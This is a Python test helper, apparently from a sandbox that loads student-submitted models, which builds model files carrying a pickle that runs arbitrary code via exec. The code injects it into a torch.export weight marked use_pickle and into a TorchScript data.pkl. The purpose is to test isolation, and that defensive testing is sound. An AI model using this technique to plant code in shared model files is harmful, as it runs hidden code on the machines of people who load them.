"""Hostile model files that run a Python payload inside the child, as a student's could.

A torch.export archive may mark a weight ``use_pickle``; torch.export.load then unpickles it
with ``weights_only=False``, which runs any code the pickle names. ``pt2_payload`` builds a real
archive (from a real exported network) whose first weight is such a pickle, running ``source``
at load time. ``torchscript_payload`` puts the same pickle into a TorchScript archive's
``data.pkl``: TorchScript's own unpickler must refuse it without running it.

The payload reports what it saw through the only channel a model has: error.json with a model
error code, read back by the parent as the message of a ModelLoadError.
"""

from __future__ import annotations

import json
import pickle
import textwrap
import warnings
import zipfile
from pathlib import Path

import torch
from torch import nn

# Prepended to every payload: where the child's output directory is, and how to report.
PRELUDE = textwrap.dedent(
    """
    import json, os, sys
    OUT = sys.argv[sys.argv.index("--out") + 1]
    def report(message, code="model_load_failed", status=3):
        with open(os.path.join(OUT, "error.json"), "w") as f:
            json.dump({"code": code, "message": message}, f)
        sys.stdout.flush()
        os._exit(status)
    """
)


class _Exec:
    def __init__(self, source: str) -> None:
        self.source = source

    def __reduce__(self):
        return (exec, (self.source, {"__name__": "payload"}))


def payload_pickle(source: str) -> bytes:
    return pickle.dumps(_Exec(PRELUDE + textwrap.dedent(source)), protocol=2)


def _tiny_network() -> nn.Module:
    torch.manual_seed(0)
    return nn.Sequential(nn.Flatten(), nn.Linear(28 * 28, 10)).eval()


def pt2_payload(path: Path, source: str) -> Path:
    """A torch.export archive whose first weight, when loaded, runs ``source``."""
    program = torch.export.export(_tiny_network(), (torch.zeros(2, 1, 28, 28),))
    clean = path.with_suffix(".clean.pt2")
    torch.export.save(program, str(clean))
    with zipfile.ZipFile(clean) as src, zipfile.ZipFile(path, "w") as dst:
        config_name = next(n for n in src.namelist() if n.endswith("model_weights_config.json"))
        config = json.loads(src.read(config_name))
        first = next(iter(config["config"].values()))
        first["use_pickle"] = True
        weight_name = config_name.rsplit("/", 1)[0] + "/" + first["path_name"]
        for info in src.infolist():
            if info.filename == config_name:
                data = json.dumps(config).encode()
            elif info.filename == weight_name:
                data = payload_pickle(source)
            else:
                data = src.read(info.filename)
            dst.writestr(info, data)
    clean.unlink()
    return path


def torchscript_payload(path: Path, source: str) -> Path:
    """A TorchScript archive whose data.pkl is the same code-running pickle."""
    clean = path.with_suffix(".clean.pt")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.jit.script(_tiny_network()).save(str(clean))
    with zipfile.ZipFile(clean) as src, zipfile.ZipFile(path, "w") as dst:
        for info in src.infolist():
            is_data = info.filename.endswith("/data.pkl")
            dst.writestr(info, payload_pickle(source) if is_data else src.read(info.filename))
    clean.unlink()
    return path


CARRIERS = {"pt2": pt2_payload, "torchscript": torchscript_payload}
